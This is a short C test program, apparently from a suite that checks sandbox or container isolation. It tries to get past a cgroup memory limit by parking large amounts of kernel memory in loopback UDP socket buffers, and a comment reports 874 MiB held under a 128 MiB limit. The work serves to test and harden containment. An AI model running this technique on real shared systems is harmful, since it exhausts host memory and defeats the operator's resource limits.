// tries: hold more memory in datagrams to itself than its limit
// outcome: succeeded|out_of_memory
#include "hostile.h"
#include <netinet/in.h>
#include <sys/ioctl.h>
// Worked on 5ee7338 with cgroup v1: 874 MiB were held under a limit of 128 MiB.
int main(void) {
	long long held = 0;
	static char data[60000];
	int from = socket(AF_INET, SOCK_DGRAM, 0), most = 1 << 30;
	setsockopt(from, SOL_SOCKET, SO_SNDBUF, &most, sizeof most);
	for (int i = 0; i < 40; i++) {
		int to = socket(AF_INET, SOCK_DGRAM, 0);
		if (to < 0) break;
		setsockopt(to, SOL_SOCKET, SO_RCVBUF, &most, sizeof most);
		struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
		socklen_t n = sizeof a;
		if (bind(to, (void *)&a, n) < 0 || getsockname(to, (void *)&a, &n) < 0) break;
		for (int j = 0; j < 200; j++) sendto(from, data, sizeof data, MSG_DONTWAIT, (void *)&a, n);
		unsigned memory[9] = {0};
		socklen_t size = sizeof memory;
		getsockopt(to, SOL_SOCKET, SO_MEMINFO, memory, &size);
		held += memory[0];
	}
	hold();
	if (held > 64 << 20) escaped("%lld MiB in datagrams", held >> 20);
	return contained();
}
